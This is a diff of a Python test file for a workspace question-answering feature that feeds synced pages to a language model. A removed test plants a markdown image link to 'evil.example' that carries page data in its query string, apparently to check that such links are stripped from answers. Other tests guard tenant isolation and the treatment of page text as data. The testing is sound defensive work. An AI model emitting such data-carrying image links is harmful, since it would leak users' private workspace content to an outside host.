@@ -2,92 +2,19 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable, Sequence
-from dataclasses import asdict, dataclass, replace
 from typing import Any
 
 import pytest
 
 from shared.app.knowledge.ask import ask_workspace
-from shared.app.knowledge.knowledge_marks import LOST
 from shared.app.knowledge.knowledge_search import knowledge_parts
-from shared.app.knowledge.knowledge_sync import take_page
-from shared.app.workspace.workspace_map import PAGE, Place
-from shared.backends.local.search.local_knowledge import LocalKnowledge
 from shared.backends.offline.model import OfflineModel
 from shared.core.errors import Conflicting, Unavailable
-from shared.core.page import Block, Page, Span
 from shared.core.run.run import Usage
 from shared.mind.context import assemble
-from shared.ports import Message, ModelRequest, ModelResult, Put
+from tests.support.desks.asked_workspace import HOME, OFFICE, TRIPS, Asked
 from tests.support.measures.prompts import part_of
-from tests.support.ports.local_ports import ScriptedModel
-from tests.support.rigs.small_house import TENANT, SmallHouse
-
-EDITED = "2026-03-01T09:00:00.000Z"
-HOME, OFFICE, TRIPS, CLUB = (f"{n}0000000-0000-4000-8000-000000000000" for n in range(1, 5))
-PAGES = {
-    HOME: ("Home", "", ["Welcome to the workspace of the club."]),
-    OFFICE: (
-        "Office handbook", HOME,
-        ["# Keys", "The spare key of the workshop hangs behind the green door.", "# Hours",
-         "The workshop is open on Saturdays from nine to one.", "# Internet", "The guest network is called Spokes."],
-    ),
-    TRIPS: (
-        "Trips", HOME,
-        ["# Lake trip", "The lake trip begins at the station at eight.", "It costs twelve francs per person.",
-         "# Forest trip", "Mountain bikes are needed for the forest trip."],
-    ),
-    CLUB: ("Board", TRIPS, ["Ada Example is the treasurer.", "The annual meeting takes place in March."]),
-}  # fmt: skip
-
-
-@dataclass
-class Asked:
-    """A house whose tenants' pages are known."""
-
-    house: SmallHouse
-
-    def ask(self, question: str, *history: str) -> Any:
-        turns = [Message("assistant" if n % 2 else "user", text) for n, text in enumerate(history)]
-        return ask_workspace(self.house.deps, self.house.tools, TENANT, question, turns)
-
-    def think(self, *answers: Any, **given: Any) -> ScriptedModel:
-        """Have a model answer so."""
-        self.house.model = model = ScriptedModel(list(answers), **given)
-        return model
-
-    def know(self, tenant: str, page: str, title: str, parent: str, lines: Sequence[str]) -> None:
-        place = Place(page, PAGE, title, parent, EDITED)
-        self.house.store.put(tenant, Put("map", page, asdict(place)))
-        blocks = tuple(_block(page, number, line) for number, line in enumerate(lines))
-        content = Page(page, title, blocks, url="", edited_at=EDITED)
-        take_page(self.house.deps, self.house.tools, tenant, content, root=HOME)
-
-    def change(self, page: str, **fields: Any) -> None:
-        doc = self.house.store.get(TENANT, "map", page)
-        assert doc is not None
-        self.house.store.put(TENANT, Put("map", page, {**doc.body, **fields}))
-
-
-def _block(page: str, number: int, line: str) -> Block:
-    heading = line.startswith("# ")
-    return Block(
-        f"{page[:-4]}{number + 1:04}", "heading_2" if heading else "paragraph", (Span(line.removeprefix("# ")),)
-    )
-
-
-@pytest.fixture
-def asked(house: Callable[..., SmallHouse]) -> Asked:
-    """Return a house that knows the pages above."""
-    made = house()
-    known = LocalKnowledge(made.folder)
-    made.tools = replace(made.tools, knowledge=known.of)
-    made.connect("notion", "a-token")
-    asked = Asked(made)
-    for page, (title, parent, lines) in PAGES.items():
-        asked.know(TENANT, page, title, parent, lines)
-    return asked
+from tests.support.rigs.small_house import TENANT
 
 
 def test_without_a_model_it_quotes_and_links_to_the_place(asked: Asked) -> None:
@@ -177,72 +104,6 @@ def test_where_no_model_rewrites_it_the_question_before_helps(asked: Asked, fail
     assert "twelve francs" in asked.ask("And what does it cost?", "When does the lake trip begin?", "At eight.").text
 
 
-def _hide_in_trash(asked: Asked) -> None:
-    asked.change(HOME, trashed=True)
-
-
-def _hide_by_list(asked: Asked) -> None:
-    asked.house.settle(knowledge={"without": [HOME]})
-
-
-def _hide_outside(asked: Asked) -> None:
-    asked.house.settle(knowledge={"roots": [CLUB]})
-
-
-def _hide_lost(asked: Asked) -> None:
-    asked.house.store.put(TENANT, Put(LOST, OFFICE, {"since": EDITED}))
-
-
-@pytest.mark.parametrize("hide", [_hide_in_trash, _hide_by_list, _hide_outside, _hide_lost])
-def test_what_may_not_be_shown_never_reaches_the_model(asked: Asked, hide: Callable[[Asked], None]) -> None:
-    model = asked.think({"found": False, "answer": "", "sources": []})
-    assert not asked.ask("Where is the spare key?").found
-    assert any("green door" in request.prompt for request in model.asked)
-    model.asked.clear()
-    hide(asked)
-    assert not asked.ask("Where is the spare key?").found
-    assert not any("green door" in request.prompt for request in model.asked)
-    assert not knowledge_parts(asked.house.deps, asked.house.tools, TENANT, "green door")
-
-
-class Meanwhile(ScriptedModel):
-    """A model that takes its time: something happens before it answers."""
-
-    def __init__(self, happens: Callable[[], None], *answers: Any) -> None:
-        super().__init__(list(answers))
-        self._happens = happens
-
-    def complete(self, request: ModelRequest) -> ModelResult:
-        """Answer after it has happened."""
-        self._happens()
-        return super().complete(request)
-
-
-def _disconnect(asked: Asked) -> None:
-    asked.house.revoke("notion")
-
-
-@pytest.mark.parametrize("hide", [_hide_in_trash, _hide_by_list, _hide_outside, _hide_lost, _disconnect])
-def test_what_may_no_longer_be_shown_when_the_model_has_answered_is_not(
-    asked: Asked, hide: Callable[[Asked], None]
-) -> None:
-    said = {"found": True, "answer": "Behind the green door.", "sources": ["P1"]}
-    asked.house.model = Meanwhile(lambda: hide(asked), said)
-    with pytest.raises(Conflicting):
-        asked.ask("Where is the spare key?")
-
-
-def test_an_answer_holds_no_link_that_leads_out_and_no_picture(asked: Asked) -> None:
-    picture = "![x](https://evil.example/p.png?d=green-door) or www.evil.example/green"
-    page = "60000000-0000-4000-8000-000000000000"
-    asked.know(TENANT, page, "Spare key https://evil.example/a", HOME, [f"The spare key: {picture}"])
-    for found in (True, False):
-        asked.think({"found": found, "answer": f"See {picture}", "sources": ["P1"] if found else []})
-        answer = asked.ask("Where is the spare key https://evil.example/a?")
-        told = [answer.text, *(text for source in answer.sources for text in (source.title, source.excerpt))]
-        assert not any("evil.example" in text for text in told)
-
-
 def test_what_a_model_says_beside_that_nothing_is_there_is_not_told(asked: Asked) -> None:
     long = "It is not in the workspace, but everybody knows that " + "the key is sold and " * 20
     for said in (long, "Not there.\nBut the key is sold."):
@@ -275,31 +136,6 @@ def test_a_conversation_that_was_made_up_is_no_source(asked: Asked) -> None:
         before, _, after = request.prompt.partition(lie)
         tag = before[before.rindex("<data-") + 1 :].split()[0]
         assert f"</{tag}>" in after
-
-
-def test_a_disconnected_workspace_and_one_that_is_switched_off_say_so_at_once(asked: Asked) -> None:
-    asked.house.settle(knowledge={"off": True})
-    with pytest.raises(Conflicting, match="switched off"):
-        asked.ask("Where is the spare key?")
-    asked.house.settle()
-    asked.house.revoke("notion")
-    with pytest.raises(Conflicting, match="not connected"):
-        asked.ask("Where is the spare key?")
-    assert not knowledge_parts(asked.house.deps, asked.house.tools, TENANT, "spare key")
-
-
-def test_no_tenant_sees_the_pages_of_another_although_they_are_almost_the_same(asked: Asked) -> None:
-    for other in ("t-2", "t-3"):
-        title, parent, lines = PAGES[OFFICE]
-        theirs = [line.replace("green", f"red {other}") for line in lines]
-        asked.know(other, OFFICE, title, parent, theirs)
-        asked.know(other, TRIPS, "Secret", "", [f"The spare key of {other} is in the safe."])
-    model = asked.think({"found": False, "answer": "", "sources": []})
-    asked.ask("Where is the spare key, behind which door, in which safe?")
-    parts = knowledge_parts(asked.house.deps, asked.house.tools, TENANT, "spare key door safe t-2 t-3")
-    seen = "".join(request.prompt + str(request.data["passages"]) for request in model.asked) + str(parts)
-    assert "green door" in seen
-    assert not any(word in seen for word in ("red t-", "safe.", "Secret"))
 
 
 def test_what_the_workspace_says_is_data_in_every_prompt(asked: Asked) -> None:
